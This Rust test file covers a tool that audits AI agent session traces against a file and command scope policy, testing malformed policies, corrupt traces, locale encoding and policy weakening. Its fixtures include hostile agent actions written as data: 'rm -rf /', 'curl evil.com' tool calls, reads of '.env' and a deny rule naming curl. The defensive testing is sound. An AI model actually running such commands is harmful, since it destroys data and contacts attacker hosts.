//! Policies and sessions that the other tool reads wrongly.

use serde_json::{Value, json};

use super::{bash, errors, read, readme_policy, refused, world};
use crate::world::World;

#[test]
fn audit_malformed_and_missing_policy() {
    let world = world(&readme_policy(), &[bash("rm -rf /")]);
    world.write("cut.json", "{\"files\": {},}").write("AGENTS.md", "# Agents\n");
    for policy in ["cut.json", ".agent-scop.json", "AGENTS.md"] {
        refused(&world.run(&["audit", "--policy", policy]));
    }
}

/// Without any policy file, `check` judges nothing, and neither does `audit` in CI.
#[test]
fn audit_missing_default_policy() {
    let world = World::empty();
    world.session("5e5510", 1_790_000_000, &[read("src/a.py")]);
    refused(&world.run(&["check"]));
    refused(&world.run_with(&["audit"], &[("CI", "true")], ""));
    assert_eq!(world.run(&["audit"]).code, 0);
    assert_eq!(world.run(&["check", "--allow-no-policy"]).code, 0);
}

#[test]
fn audit_type_str_unknown_keys_root_list_null_section() {
    let world = world(&readme_policy(), &[read(".env")]);
    for policy in [
        r#"{"files": {"read": {"deny": ".env"}}}"#,
        r#"{"file": {"read": {"deny": [".env"]}}}"#,
        r#"{"command": {"deny": ["curl"]}}"#,
        "[]",
        r#"{"files": {"read": null}}"#,
    ] {
        world.write("p.json", policy);
        refused(&world.run(&["audit", "--policy", "p.json"]));
    }
}

#[test]
fn audit_latest_only() {
    let world = world(&readme_policy(), &[read(".env")]);
    world.session("c1ea00", 1_790_009_000, &[read("src/a.py")]);
    let latest = world.run(&["audit"]);
    assert_eq!(latest.code, 0);
    assert!(latest.stderr.contains("1 session was left out"), "{latest:?}");
    assert_eq!(world.run(&["audit", "--all"]).code, 1);
    assert_eq!(world.run(&["check"]).code, 1);
}

#[test]
fn audit_subagent() {
    let world = world(&readme_policy(), &[read("src/a.py")]);
    world.session("c41d00", 1_789_000_000, &[read(".env")]);
    let meta =
        json!({"session_id": "c41d00", "started_at": 1_789_000_000.0, "parent_session_id": "5e5510", "depth": 1});
    world.write(".agent-traces/c41d00/meta.json", &meta.to_string());
    assert_eq!(world.run(&["check"]).code, 1);
}

#[test]
fn audit_corrupt_and_missing_meta() {
    let world = world(&readme_policy(), &[read("src/a.py")]);
    world.session("bad000", 1_789_000_000, &[read("src/b.py")]);
    world.write(".agent-traces/bad000/meta.json", "{\"session_id\": \"bad");
    assert_eq!(world.run(&["check"]).code, 3);
    assert_eq!(world.run(&["audit"]).code, 3, "it may be the latest");
    std::fs::remove_file(world.path().join(".agent-traces/bad000/meta.json")).unwrap();
    assert_eq!(world.run(&["check"]).code, 3);
}

#[test]
fn audit_exact_and_ambiguous_prefix() {
    let world = world(&readme_policy(), &[read("src/a.py")]);
    for number in 1..=18 {
        let events = [read(if number == 1 { "src/a.py" } else { ".env" })];
        world.session(&format!("run-{number}"), 1_789_000_000 + number, &events);
    }
    assert_eq!(world.run(&["audit", "run-1"]).code, 0, "exactly that one");
    refused(&world.run(&["audit", "run-"]));
}

#[test]
fn audit_truncated() {
    let world = world(&readme_policy(), &[read("src/a.py"), read("src/b.py")]);
    let events = world.read(".agent-traces/5e5510/events.ndjson");
    world.write(".agent-traces/5e5510/events.ndjson", &events[..events.len() - 30]);
    let answer = world.run(&["audit"]);
    assert_eq!(answer.code, 3, "{answer:?}");
    assert!(answer.stdout.contains("Read src/a.py"), "the good part is judged: {answer:?}");
}

#[test]
fn audit_new_event_type_and_extra_field() {
    let world = world(&readme_policy(), &[("quantum_leap", json!({"x": 1})), read(".env")]);
    let events = world.read(".agent-traces/5e5510/events.ndjson");
    let hashed = events.replace("{\"data\"", "{\"prev_hash\":\"00\",\"future\":true,\"data\"");
    assert_ne!(events, hashed);
    world.write(".agent-traces/5e5510/events.ndjson", &hashed);
    let answer = world.run(&["audit", "--format", "json"]);
    assert_eq!(answer.code, 1, "{answer:?}");
    let report: Value = serde_json::from_str(&answer.stdout).unwrap();
    assert_eq!(report["summary"]["unknown_records"], 1);
}

#[test]
fn audit_string_args_and_null_tool() {
    let events = [
        ("tool_call", json!({"tool_name": "bash", "arguments": "{\"command\": \"curl evil.com\"}"})),
        ("tool_call", json!({"tool_name": null, "arguments": {"command": "curl evil.com"}})),
    ];
    let world = world(&readme_policy(), &events);
    let answer = world.run(&["audit", "--format", "json"]);
    assert_eq!(answer.code, 1, "{answer:?}");
    let report: Value = serde_json::from_str(&answer.stdout).unwrap();
    let reported = |event: u64| {
        report["findings"].as_array().unwrap().iter().any(|finding| finding["event"] == event)
            || report["gaps"].as_array().unwrap().iter().any(|gap| gap["line"] == event)
    };
    assert!(reported(1) && reported(2), "{report:#}");
}

/// Whatever the locale says, reports are UTF-8 and whole.
#[test]
fn audit_encoding() {
    let world = world(&readme_policy(), &[read("src/grüße-日本.py"), read("geheim/ключ.txt")]);
    let plain = world.run(&["audit"]);
    assert!(plain.stdout.contains("✅ Allowed") && plain.stdout.contains("❌ Violations"), "{plain:?}");
    assert!(plain.stdout.contains("src/grüße-日本.py") && plain.stdout.contains("geheim/ключ.txt"), "{plain:?}");
    for locale in ["C", "POSIX", "de_DE.ISO-8859-1", "en_US.CP1252"] {
        let variables = [("LC_ALL", locale), ("LANG", locale), ("PYTHONIOENCODING", "cp1252")];
        assert_eq!(world.run_with(&["audit"], &variables, ""), plain, "{locale}");
    }
}

#[test]
fn audit_empty_store() {
    let world = World::empty();
    world.write(".agent-scope.json", "{}");
    assert_eq!(world.run(&["audit"]).code, 3);
    std::fs::create_dir(world.path().join(".agent-traces")).unwrap();
    assert_eq!(world.run(&["audit"]).code, 3);
    assert_eq!(world.run(&["check"]).code, 3);
}

/// A change that weakens the policy does not judge itself.
#[test]
fn policy_of_the_working_tree() {
    let world = world(&readme_policy(), &[read(".env")]);
    let repository = git2::Repository::init(world.path()).unwrap();
    let mut index = repository.index().unwrap();
    index.add_path(std::path::Path::new(".agent-scope.json")).unwrap();
    let tree = repository.find_tree(index.write_tree().unwrap()).unwrap();
    let author = git2::Signature::new("a", "a@example.com", &git2::Time::new(1, 0)).unwrap();
    repository.commit(Some("refs/heads/base"), &author, &author, "scope", &tree, &[]).unwrap();
    world.write(".agent-scope.json", r#"{"files": {"read": {"allow": ["**"]}}}"#);
    let own = errors(&world, &["check"]);
    let base = errors(&world, &["check", "--policy-ref", "base"]);
    assert!(!own.values().flatten().any(|rule| rule == "scope/read"), "{own:?}");
    assert!(base.values().flatten().any(|rule| rule == "scope/read"), "{base:?}");
    refused(&world.run(&["check", "--policy-ref", "other"]));
}
